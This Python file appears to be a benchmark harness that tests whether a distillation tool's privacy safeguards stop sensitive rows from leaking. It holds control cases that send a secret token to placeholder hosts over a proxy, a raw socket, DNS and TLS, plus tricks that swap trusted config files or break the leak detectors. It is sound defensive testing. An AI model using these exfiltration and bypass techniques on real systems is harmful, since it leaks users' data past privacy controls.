"""Carries out one trick in the inside namespace, with the real engine or command line, and says what came of it.

    python -m benchmarks.leaking.inside TRICK TOKEN ROWS FOLDER

Prints one JSON line: rows handed in, how they ended, what stopped a part of them, what the local teacher was asked.
Rows are handed in in parts, each with an engine of its own, so that an error that ends one part leaves the others.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

from benchmarks.leaking.tricks import TRICKS, Trick

from imbik.ask.engine import AskEngine
from imbik.ask.retry import RetryPolicy
from imbik.core.errors import ImbikError
from imbik.core.executor import LocalExecutor
from imbik.core.progress import Progress, SilentReporter
from imbik.core.questions import Question
from imbik.core.runfolder import RunFolder
from imbik.core.types import Message, Sensitivity
from imbik.privacy.operator import load_operator
from imbik.privacy.trust import trust
from imbik.recipe import build
from imbik.testing import FakeTeacher

_POLICY = RetryPolicy(attempts=2, first_attempts=2, base=0.01, longest=0.02, patience=1.0, give_up=5, grace=0.2)
Ends = Counter[str]


def main(name: str, token: str, rows: int, folder: Path) -> None:
    """Set the stage that the trick wants, and let it try."""
    trick = next(item for item in TRICKS if item.name == name)
    project = folder / "proje"
    project.mkdir(parents=True)
    _lay_operator(trick, folder, project)
    with FakeTeacher(rules=trick.rules, port=8000) as local:
        ends, stops = Ends(), Ends()
        if trick.how == "whole_run":
            _whole_run(trick, token, rows, project, ends)
        else:
            for part in range(trick.parts):
                _one_part(
                    trick, _rows(trick, token, rows // trick.parts, part), project, folder / f"runs{part}", ends, stops
                )
        print(json.dumps({"ends": ends, "stops": stops, "local": local.count}), flush=True)


def _rows(trick: Trick, token: str, count: int, part: int) -> list[Question]:
    system = (Message(role="system", content=trick.system),) if trick.system else ()
    return [
        Question(
            messages=(*system, Message(role="user", content=f"{trick.text} {token} {part}-{number}")),
            row=f"{part}-{number}",
            sensitivity=Sensitivity(trick.level),
        )
        for number in range(count)
    ]


def _one_part(trick: Trick, rows: Sequence[Question], project: Path, runs: Path, ends: Ends, stops: Ends) -> None:
    """Ask; what ends the whole asking is written down beside what became of each row."""
    done = 0
    try:
        with _broken_detector(trick.how), _engine(trick, project, runs) as engine:
            for completion in engine.ask("t", rows, purpose=trick.purpose):
                done += 1
                ends[completion.outcome.value] += 1
    except ImbikError as error:
        stops[f"{type(error).__name__}: {error.what[:100]}"] += 1
    ends["not asked"] += len(rows) - done


def data_of(trick: Trick) -> dict[str, Any]:
    """The recipe that the trick would have somebody run."""
    teacher: dict[str, Any] = {"use": "openai", "model": "m", "base_url": trick.url, **trick.settings}
    return {
        "name": "sizinti",
        "tasks": {"source": "rows.jsonl", "kind": "qa", "sensitivity": trick.level},
        "teachers": {"t": teacher},
        "student": {"architecture": "llama"},
        **trick.recipe,
    }


def _engine(trick: Trick, project: Path, runs: Path) -> AskEngine:
    return AskEngine(
        recipe=build(data_of(trick), base=project),
        run=RunFolder(runs / "sizinti"),
        executor=LocalExecutor(),
        progress=Progress(SilentReporter()),
        operator=load_operator(project),
        policy=_POLICY,
    )


@contextmanager
def _broken_detector(how: str) -> Iterator[None]:
    """The detectors crash or hang in this block, where the trick says so."""
    breaks = {"crashing_detector": _crash, "hanging_detector": _hang}
    if how not in breaks:
        yield
        return
    from imbik.privacy.detect import Detection

    whole = Detection.find, Detection.level
    Detection.find = Detection.level = breaks[how]  # type: ignore[assignment, method-assign]
    try:
        yield
    finally:
        Detection.find, Detection.level = whole  # type: ignore[method-assign]


def _crash(*_: object) -> Any:
    raise RuntimeError("the detector is broken")


def _hang(*_: object) -> Any:
    time.sleep(3600)


def _lay_operator(trick: Trick, folder: Path, project: Path) -> None:
    """Put the operator's file where the trick wants it. The user's own configuration is in FOLDER/config."""
    own = Path(os.environ["XDG_CONFIG_HOME"]) / "imbik" / "operator.yaml"
    own.parent.mkdir(parents=True)
    if trick.place == "user":
        if trick.operator:
            own.write_text(trick.operator)
        return
    beside = project / "operator.yaml"
    if trick.place == "borrowed":
        other = folder / "other" / "operator.yaml"
        other.parent.mkdir()
        other.write_text(trick.operator)
        trust(other)
        beside.symlink_to(other)
        return
    beside.write_text(trick.operator)
    if trick.place == "named":
        os.environ["IMBIK_OPERATOR"] = str(beside)
    elif trick.place == "linked":
        link = folder / "baska.yaml"
        link.symlink_to(beside)
        os.environ["IMBIK_OPERATOR"] = str(link)
    elif trick.place == "changed":
        beside.write_text("unlisted: nothing\n")
        trust(beside)
        beside.write_text(trick.operator)


def _whole_run(trick: Trick, token: str, rows: int, project: Path, ends: Ends) -> None:
    """The command line, in a process of its own."""
    lines = [
        json.dumps(
            {"prompt": f"{trick.text} {token} {number}", "answer": "42", "gizlilik": trick.level}, ensure_ascii=False
        )
        for number in range(rows)
    ]
    (project / "rows.jsonl").write_text("\n".join(lines))
    recipe = data_of(trick) | {"tasks": {"source": "rows.jsonl", "kind": "qa", "sensitivity": "gizlilik"}}
    (project / "recipe.yaml").write_text(json.dumps(recipe))
    command = [sys.executable, "-m", "imbik", "run", "recipe.yaml", "--until", "generate"]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True, check=False)
    ends[f"exit code {done.returncode}"] += rows
    if done.returncode not in trick.codes:
        ends[f"unexpected: {done.stderr.strip()[-200:]}"] += 1


def control(kind: str, token: str, rows: int, folder: Path) -> None:
    """What must be seen: leaks planted past imbik, and public rows that imbik may send."""
    if kind == "control: urllib through a proxy":
        import urllib.request

        os.environ["http_proxy"] = "http://203.0.113.7:3128"
        request = urllib.request.Request("http://10.11.12.13/v1", data=f"{token} 1".encode())
        urllib.request.urlopen(request, timeout=5).read()
    elif kind == "control: uvloop":
        import asyncio

        import uvloop

        async def leak() -> None:
            _, writer = await asyncio.open_connection("203.0.113.7", 80)
            writer.write(f"POST / HTTP/1.1\r\nContent-Length: {len(token)}\r\n\r\n{token}".encode())
            await writer.drain()
            await asyncio.sleep(0.2)
            writer.close()

        uvloop.run(leak())
    elif kind == "control: a name":
        import socket

        with suppress(OSError):
            socket.getaddrinfo(f"{token}.example", 80)
    elif kind == "control: over TLS":
        import urllib.request

        urllib.request.urlopen("https://203.0.113.7/v1", data=token.encode(), timeout=5).read()
    else:
        project = folder / "proje"
        project.mkdir(parents=True)
        trick = Trick(kind, "", "http://kotu.example/v1", level="public")
        ends, stops = Ends(), Ends()
        _one_part(trick, _rows(trick, token, min(rows, 100), 0), project, folder / "runs", ends, stops)
        print(json.dumps({"ends": ends, "stops": stops}), flush=True)
        return
    print("{}", flush=True)


CONTROLS = [
    "control: urllib through a proxy",
    "control: uvloop",
    "control: a name",
    "control: over TLS",
    "control: public rows, sent by imbik",
]


def names() -> Iterator[str]:
    """Controls first: a sniffer that is blind is found before anything else."""
    yield from CONTROLS
    yield from (trick.name for trick in TRICKS)


if __name__ == "__main__":
    what, token, rows, folder = sys.argv[1], sys.argv[2], int(sys.argv[3]), Path(sys.argv[4])
    (control if what in CONTROLS else main)(what, token, rows, folder)
